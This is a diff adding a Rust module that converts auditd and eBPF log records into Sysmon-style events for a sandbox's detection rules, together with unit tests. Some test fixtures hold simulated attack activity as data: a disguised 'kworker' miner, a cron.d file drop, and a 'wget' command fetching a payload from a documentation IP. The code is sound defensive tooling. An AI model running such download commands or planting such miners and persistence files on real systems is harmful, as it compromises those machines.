@@ -0,0 +1,502 @@
+use std::{
+    collections::HashMap,
+    net::{IpAddr, Ipv4Addr, Ipv6Addr},
+};
+
+use anyhow::{bail, Context, Result};
+use chrono::{DateTime, FixedOffset};
+use regex::Regex;
+use uuid::Uuid;
+
+use crate::{
+    scope::parse_unix_time,
+    sysmon::{SysmonEvent, SysmonEventId},
+};
+
+// events of the auditd and eBPF collectors are normalised into Sysmon events so that the same
+// rules apply, fields that the collector does not record are left out or set to "-"
+
+// x86_64 numbers of the syscalls recorded by the sandbox's audit rules
+const SYSCALLS: &[(&str, &str)] = &[
+    ("2", "open"),
+    ("42", "connect"),
+    ("59", "execve"),
+    ("85", "creat"),
+    ("87", "unlink"),
+    ("257", "openat"),
+    ("263", "unlinkat"),
+    ("322", "execveat"),
+];
+
+const AF_INET: u16 = 2;
+const AF_INET6: u16 = 10;
+
+// neither collector knows Sysmon's process guids, they are derived from the pid and, as pids are
+// reused, the start time of the process if the collector records it as "<pid>:<start time>"
+fn parse_pid(value: &str) -> Result<(u32, Option<u64>)> {
+    let (pid, start_time) = match value.split_once(':') {
+        Some((pid, start_time)) => (pid, Some(start_time)),
+        None => (value, None),
+    };
+    let pid = pid
+        .parse()
+        .with_context(|| format!("Invalid pid \"{}\"", value))?;
+    let start_time = match start_time {
+        Some(start_time) => Some(
+            start_time
+                .parse()
+                .with_context(|| format!("Invalid start time \"{}\"", value))?,
+        ),
+        None => None,
+    };
+
+    return Ok((pid, start_time));
+}
+
+fn pid_guid(pid: u32, start_time: Option<u64>) -> String {
+    return Uuid::from_u128((start_time.unwrap_or(0) as u128) << 32 | pid as u128).to_string();
+}
+
+fn process_fields(
+    time: &DateTime<FixedOffset>,
+    pid: &str,
+    image: &str,
+    uid: &str,
+) -> Result<HashMap<String, String>> {
+    let (pid, start_time) = parse_pid(pid)?;
+
+    return Ok(HashMap::from([
+        (
+            "UtcTime".to_string(),
+            time.format("%Y-%m-%d %H:%M:%S%.3f").to_string(),
+        ),
+        ("ProcessGuid".to_string(), pid_guid(pid, start_time)),
+        ("ProcessId".to_string(), pid.to_string()),
+        ("Image".to_string(), image.to_string()),
+        ("User".to_string(), uid.to_string()),
+    ]));
+}
+
+fn insert_parent(data: &mut HashMap<String, String>, ppid: &str) -> Result<()> {
+    let (ppid, start_time) = parse_pid(ppid)?;
+
+    data.insert("ParentProcessGuid".to_string(), pid_guid(ppid, start_time));
+    data.insert("ParentProcessId".to_string(), ppid.to_string());
+
+    return Ok(());
+}
+
+#[derive(Debug)]
+struct AuditRecord {
+    record_type: String,
+    fields: HashMap<String, String>,
+}
+
+impl AuditRecord {
+    fn parse(line: &str, field_regex: &Regex) -> Self {
+        let fields: HashMap<String, String> = field_regex
+            .captures_iter(line)
+            .map(|c| (c[1].to_string(), c[2].to_string()))
+            .collect();
+
+        return Self {
+            record_type: fields.get("type").cloned().unwrap_or_default(),
+            fields,
+        };
+    }
+
+    fn field(&self, name: &str) -> Result<&str> {
+        return self
+            .fields
+            .get(name)
+            .map(|v| v.as_str())
+            .with_context(|| format!("No {} in {} record", name, self.record_type));
+    }
+
+    // strings are either quoted or hex encoded if they contain special characters
+    fn string(&self, name: &str) -> Result<String> {
+        let value = self.field(name)?;
+
+        if let Some(quoted) = value.strip_prefix('"').and_then(|v| v.strip_suffix('"')) {
+            return Ok(quoted.to_string());
+        }
+
+        return match hex_decode(value) {
+            Some(bytes) => Ok(String::from_utf8_lossy(&bytes).replace('\0', " ")),
+            None => Ok(value.to_string()),
+        };
+    }
+}
+
+fn hex_decode(hex: &str) -> Option<Vec<u8>> {
+    if !hex.len().is_multiple_of(2) {
+        return None;
+    }
+
+    return (0..hex.len())
+        .step_by(2)
+        .map(|i| u8::from_str_radix(hex.get(i..i + 2)?, 16).ok())
+        .collect();
+}
+
+// sockaddr as recorded in SOCKADDR records, None for non IP sockets
+fn parse_sockaddr(saddr: &str) -> Option<(IpAddr, u16)> {
+    let bytes = hex_decode(saddr)?;
+    let family = u16::from_le_bytes(bytes.get(0..2)?.try_into().ok()?);
+    let port = u16::from_be_bytes(bytes.get(2..4)?.try_into().ok()?);
+
+    return match family {
+        AF_INET => {
+            let addr: [u8; 4] = bytes.get(4..8)?.try_into().ok()?;
+            Some((IpAddr::V4(Ipv4Addr::from(addr)), port))
+        }
+        AF_INET6 => {
+            let addr: [u8; 16] = bytes.get(8..24)?.try_into().ok()?;
+            Some((IpAddr::V6(Ipv6Addr::from(addr)), port))
+        }
+        _ => None,
+    };
+}
+
+// Ok(None) if the audit event is not one that the rules are interested in
+pub fn auditd_event(lines: &[String]) -> Result<Option<SysmonEvent>> {
+    let field_regex = Regex::new(r#"(\w+)=("[^"]*"|\S+)"#).unwrap();
+    let records: Vec<AuditRecord> = lines
+        .iter()
+        .map(|l| AuditRecord::parse(l, &field_regex))
+        .collect();
+    let record = |record_type: &str| records.iter().find(|r| r.record_type == record_type);
+
+    let syscall = match record("SYSCALL") {
+        Some(syscall) => syscall,
+        None => return Ok(None),
+    };
+
+    let time = Regex::new(r"msg=audit\(([\d.]+):\d+\)")
+        .unwrap()
+        .captures(&lines[0])
+        .context("No timestamp in audit record")?;
+    let time = parse_unix_time(&time[1])?;
+
+    let number = syscall.field("syscall")?;
+    let name = SYSCALLS
+        .iter()
+        .find(|(n, _)| *n == number)
+        .map(|(_, name)| *name)
+        .unwrap_or(number);
+    let success = syscall.fields.get("success").map(|s| s.as_str()) == Some("yes");
+
+    let pid = syscall.field("pid")?;
+    let mut data = process_fields(&time, pid, &syscall.string("exe")?, syscall.field("uid")?)?;
+    let cwd = match record("CWD") {
+        Some(cwd) => Some(cwd.string("cwd")?),
+        None => None,
+    };
+
+    // PATH records of the file that was created or deleted
+    let path = |nametype: &str| -> Result<Option<String>> {
+        let path = records
+            .iter()
+            .filter(|r| r.record_type == "PATH")
+            .find(|r| r.fields.get("nametype").map(|t| t.as_str()) == Some(nametype));
+
+        let name = match path {
+            Some(path) => path.string("name")?,
+            None => return Ok(None),
+        };
+
+        return Ok(Some(match &cwd {
+            Some(cwd) if !name.starts_with('/') => {
+                format!("{}/{}", cwd.trim_end_matches('/'), name)
+            }
+            _ => name,
+        }));
+    };
+
+    let event_id = match name {
+        "execve" | "execveat" if success => {
+            let execve = record("EXECVE").context("No EXECVE record")?;
+            let argc: usize = execve.field("argc")?.parse().context("Invalid argc")?;
+            let args: Vec<String> = (0..argc)
+                .filter_map(|i| execve.string(&format!("a{}", i)).ok())
+                .collect();
+            let ppid = syscall.field("ppid")?;
+
+            data.insert("CommandLine".to_string(), args.join(" "));
+            data.insert(
+                "CurrentDirectory".to_string(),
+                cwd.clone().unwrap_or("-".to_string()),
+            );
+            insert_parent(&mut data, ppid)?;
+            SysmonEventId::PROCESS_CREATE
+        }
+        "connect" => {
+            let saddr = record("SOCKADDR").context("No SOCKADDR record")?;
+            let (ip, port) = match parse_sockaddr(saddr.field("saddr")?) {
+                Some(addr) => addr,
+                None => return Ok(None),
+            };
+
+            insert_connection(&mut data, ip, port);
+            SysmonEventId::NETWORK_CONNECT
+        }
+        "unlink" | "unlinkat" if success => match path("DELETE")? {
+            Some(target) => {
+                data.insert("TargetFilename".to_string(), target);
+                SysmonEventId::FILE_DELETE
+            }
+            None => return Ok(None),
+        },
+        // files opened with O_CREAT that already existed are NORMAL
+        "open" | "openat" | "creat" if success => match path("CREATE")? {
+            Some(target) => {
+                data.insert("TargetFilename".to_string(), target);
+                SysmonEventId::FILE_CREATE
+            }
+            None => return Ok(None),
+        },
+        _ => return Ok(None),
+    };
+
+    return Ok(Some(SysmonEvent::from_fields(event_id, time, data)));
+}
+
+fn insert_connection(data: &mut HashMap<String, String>, ip: IpAddr, port: u16) {
+    // the local end is not known before the connection is established
+    data.insert("Protocol".to_string(), "-".to_string());
+    data.insert("Initiated".to_string(), "true".to_string());
+    data.insert("SourceIp".to_string(), "0.0.0.0".to_string());
+    data.insert("SourcePort".to_string(), "0".to_string());
+    data.insert("DestinationIp".to_string(), ip.to_string());
+    data.insert("DestinationPort".to_string(), port.to_string());
+}
+
+// "<time>\t<kind>\t<pid>:<start time>\t<ppid>:<start time>\t<uid>\t<comm>\t..." as printed by the
+// sandbox's bpftrace script, logs of older versions have no start times
+pub fn ebpf_event(line: &str) -> Result<Option<SysmonEvent>> {
+    let fields: Vec<&str> = line.splitn(8, '\t').collect();
+
+    if fields.len() < 7 {
+        bail!("Truncated eBPF event");
+    }
+
+    let (kind, pid, ppid, uid, comm) = (fields[1], fields[2], fields[3], fields[4], fields[5]);
+    let time = parse_unix_time(fields[0])?;
+    let arg = |i: usize| {
+        fields
+            .get(i)
+            .map(|v| v.to_string())
+            .with_context(|| format!("Truncated eBPF {} event", kind))
+    };
+
+    let (event_id, data) = match kind {
+        "exec" => {
+            let mut data = process_fields(&time, pid, &arg(6)?, uid)?;
+            data.insert("CommandLine".to_string(), arg(7)?);
+            data.insert("CurrentDirectory".to_string(), "-".to_string());
+            insert_parent(&mut data, ppid)?;
+            (SysmonEventId::PROCESS_CREATE, data)
+        }
+        "connect" => {
+            let mut data = process_fields(&time, pid, comm, uid)?;
+            let ip: IpAddr = arg(6)?.parse().context("Invalid destination ip")?;
+            let port: u16 = arg(7)?.parse().context("Invalid destination port")?;
+            insert_connection(&mut data, ip, port);
+            (SysmonEventId::NETWORK_CONNECT, data)
+        }
+        "unlink" | "create" => {
+            let mut data = process_fields(&time, pid, comm, uid)?;
+            data.insert("TargetFilename".to_string(), arg(6)?);
+
+            let event_id = match kind {
+                "unlink" => SysmonEventId::FILE_DELETE,
+                _ => SysmonEventId::FILE_CREATE,
+            };
+            (event_id, data)
+        }
+        _ => return Ok(None),
+    };
+
+    return Ok(Some(SysmonEvent::from_fields(event_id, time, data)));
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::sysmon::SysmonEventData;
+
+    fn audit_lines(log: &str) -> Vec<String> {
+        return log.lines().map(|l| l.to_string()).collect();
+    }
+
+    #[test]
+    fn auditd_execve() {
+        // the executable's path and the second argument contain spaces, so they are hex encoded
+        let lines = audit_lines("\
+type=SYSCALL msg=audit(1691668810.123:42): arch=c000003e syscall=59 success=yes exit=0 a0=55d0 a1=55d1 a2=55d2 a3=0 items=2 ppid=100 pid=101 auid=0 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=pts0 ses=3 comm=\"kworker\" exe=2F746D702F6D79206469722F6B776F726B6572 key=\"exec\"
+type=EXECVE msg=audit(1691668810.123:42): argc=2 a0=\"./kworker\" a1=2D2D646F6E6174652D6C6576656C2031
+type=CWD msg=audit(1691668810.123:42): cwd=\"/tmp/my dir\"");
+        let event = auditd_event(&lines).unwrap().unwrap();
+
+        assert_eq!(event.event_id, SysmonEventId::PROCESS_CREATE);
+        assert_eq!(event.time_created.timestamp_millis(), 1691668810123);
+
+        match event.data {
+            SysmonEventData::ProcessCreate(p) => {
+                assert_eq!(p.image.as_deref(), Some("/tmp/my dir/kworker"));
+                assert_eq!(
+                    p.command_line.as_deref(),
+                    Some("./kworker --donate-level 1")
+                );
+                assert_eq!(p.current_directory.as_deref(), Some("/tmp/my dir"));
+                assert_eq!(p.process_id, 101);
+                assert_eq!(p.process_guid, Uuid::from_u128(101));
+                assert_eq!(p.parent_process_guid, Some(Uuid::from_u128(100)));
+            }
+            data => panic!("{:?}", data),
+        }
+    }
+
+    #[test]
+    fn auditd_connect() {
+        let lines = audit_lines("\
+type=SYSCALL msg=audit(1691668811.500:43): arch=c000003e syscall=42 success=no exit=-115 a0=3 a1=7ffd a2=10 a3=0 items=0 ppid=100 pid=101 auid=0 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=pts0 ses=3 comm=\"kworker\" exe=\"/tmp/kworker\" key=\"connect\"
+type=SOCKADDR msg=audit(1691668811.500:43): saddr=02000D05C633640F0000000000000000");
+        let event = auditd_event(&lines).unwrap().unwrap();
+
+        // non-blocking connects fail with EINPROGRESS but are still connections
+        match event.data {
+            SysmonEventData::NetworkConnect(n) => {
+                assert_eq!(n.destination_ip.to_string(), "198.51.100.15");
+                assert_eq!(n.destination_port, 3333);
+                assert_eq!(n.image.as_deref(), Some("/tmp/kworker"));
+            }
+            data => panic!("{:?}", data),
+        }
+
+        // a unix socket
+        let lines = audit_lines("\
+type=SYSCALL msg=audit(1691668811.600:44): arch=c000003e syscall=42 success=yes exit=0 a0=3 a1=7ffd a2=6e a3=0 items=0 ppid=100 pid=101 auid=0 uid=0 comm=\"kworker\" exe=\"/tmp/kworker\" key=\"connect\"
+type=SOCKADDR msg=audit(1691668811.600:44): saddr=01002F72756E2F73797374656D642F6A6F75726E616C2F736F636B657400");
+
+        assert!(auditd_event(&lines).unwrap().is_none());
+    }
+
+    #[test]
+    fn auditd_file_create_and_delete() {
+        let lines = audit_lines("\
+type=SYSCALL msg=audit(1691668812.000:45): arch=c000003e syscall=257 success=yes exit=3 a0=ffffff9c a1=7ffd a2=241 a3=1b6 items=2 ppid=100 pid=101 auid=0 uid=0 comm=\"kworker\" exe=\"/tmp/kworker\" key=\"create\"
+type=CWD msg=audit(1691668812.000:45): cwd=\"/etc/cron.d\"
+type=PATH msg=audit(1691668812.000:45): item=0 name=\"/etc/cron.d\" inode=1310 dev=08:01 mode=040755 ouid=0 ogid=0 rdev=00:00 nametype=PARENT
+type=PATH msg=audit(1691668812.000:45): item=1 name=\"update\" inode=1320 dev=08:01 mode=0100644 ouid=0 ogid=0 rdev=00:00 nametype=CREATE");
+        let event = auditd_event(&lines).unwrap().unwrap();
+
+        assert_eq!(event.event_id, SysmonEventId::FILE_CREATE);
+        assert_eq!(event.event_data["TargetFilename"], "/etc/cron.d/update");
+
+        let lines = audit_lines("\
+type=SYSCALL msg=audit(1691668812.100:46): arch=c000003e syscall=263 success=yes exit=0 a0=ffffff9c a1=55d0 a2=0 a3=0 items=2 ppid=100 pid=102 auid=0 uid=0 comm=\"rm\" exe=\"/usr/bin/rm\" key=\"delete\"
+type=PATH msg=audit(1691668812.100:46): item=0 name=\"/root/\" inode=1300 dev=08:01 mode=040700 ouid=0 ogid=0 rdev=00:00 nametype=PARENT
+type=PATH msg=audit(1691668812.100:46): item=1 name=\"/root/target.bin\" inode=1301 dev=08:01 mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=DELETE");
+        let event = auditd_event(&lines).unwrap().unwrap();
+
+        assert_eq!(event.event_id, SysmonEventId::FILE_DELETE);
+        assert_eq!(event.event_data["TargetFilename"], "/root/target.bin");
+
+        // an existing file opened with O_CREAT
+        let lines = audit_lines("\
+type=SYSCALL msg=audit(1691668812.200:47): arch=c000003e syscall=257 success=yes exit=3 a0=ffffff9c a1=7ffd a2=241 a3=1b6 items=2 ppid=100 pid=101 auid=0 uid=0 comm=\"kworker\" exe=\"/tmp/kworker\" key=\"create\"
+type=PATH msg=audit(1691668812.200:47): item=1 name=\"/etc/hostname\" inode=1330 dev=08:01 mode=0100644 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL");
+
+        assert!(auditd_event(&lines).unwrap().is_none());
+    }
+
+    #[test]
+    fn auditd_invalid_records() {
+        let proctitle = audit_lines(
+            "type=PROCTITLE msg=audit(1691668810.123:42): proctitle=776765740068747470",
+        );
+        assert!(auditd_event(&proctitle).unwrap().is_none());
+
+        let no_pid = audit_lines("type=SYSCALL msg=audit(1691668810.123:42): arch=c000003e syscall=87 success=yes exit=0 uid=0 comm=\"rm\" exe=\"/usr/bin/rm\"");
+        assert_eq!(
+            auditd_event(&no_pid).unwrap_err().to_string(),
+            "No pid in SYSCALL record"
+        );
+    }
+
+    #[test]
+    fn ebpf_events() {
+        let exec = ebpf_event(
+            "1691668810.123456\texec\t101:8000000000\t100:5000000000\t0\tbash\t/usr/bin/wget\twget -q http://198.51.100.7/k",
+        )
+        .unwrap()
+        .unwrap();
+
+        match exec.data {
+            SysmonEventData::ProcessCreate(p) => {
+                assert_eq!(p.image.as_deref(), Some("/usr/bin/wget"));
+                assert_eq!(
+                    p.command_line.as_deref(),
+                    Some("wget -q http://198.51.100.7/k")
+                );
+                assert_eq!(p.process_id, 101);
+                assert_eq!(p.parent_process_id, Some(100));
+                assert_eq!(p.process_guid.to_string(), pid_guid(101, Some(8000000000)));
+                assert_eq!(
+                    p.parent_process_guid.map(|g| g.to_string()),
+                    Some(pid_guid(100, Some(5000000000)))
+                );
+            }
+            data => panic!("{:?}", data),
+        }
+
+        let connect = ebpf_event(
+            "1691668811.000000\tconnect\t101:8000000000\t100:5000000000\t0\twget\t198.51.100.7\t80",
+        )
+        .unwrap()
+        .unwrap();
+
+        assert_eq!(connect.event_id, SysmonEventId::NETWORK_CONNECT);
+        assert_eq!(connect.event_data["DestinationPort"], "80");
+        assert_eq!(connect.event_data["Image"], "wget");
+        assert_eq!(
+            connect.event_data["ProcessGuid"],
+            exec.event_data["ProcessGuid"]
+        );
+
+        // the pid was reused by another process
+        let reused = ebpf_event(
+            "1691668811.500000\texec\t101:9000000000\t100:5000000000\t0\tsh\t/bin/sh\tsh",
+        )
+        .unwrap()
+        .unwrap();
+
+        assert_ne!(
+            reused.event_data["ProcessGuid"],
+            exec.event_data["ProcessGuid"]
+        );
+        assert_eq!(
+            reused.event_data["ParentProcessGuid"],
+            exec.event_data["ParentProcessGuid"]
+        );
+
+        let unlink = ebpf_event("1691668812.000000\tunlink\t102\t100\t0\trm\t/root/target.bin")
+            .unwrap()
+            .unwrap();
+
+        assert_eq!(unlink.event_id, SysmonEventId::FILE_DELETE);
+
+        assert!(ebpf_event("Attaching 6 probes...").is_err());
+        assert!(ebpf_event("1691668812.000000\tunlink\t102:x\t100\t0\trm\t/tmp/x").is_err());
+        assert!(ebpf_event("1691668812.000000\tclose\t102\t100\t0\trm\t3")
+            .unwrap()
+            .is_none());
+        assert_eq!(
+            ebpf_event("1691668812.000000\tconnect\t101\t100\t0\twget\t198.51.100.7")
+                .unwrap_err()
+                .to_string(),
+            "Truncated eBPF connect event"
+        );
+    }
+}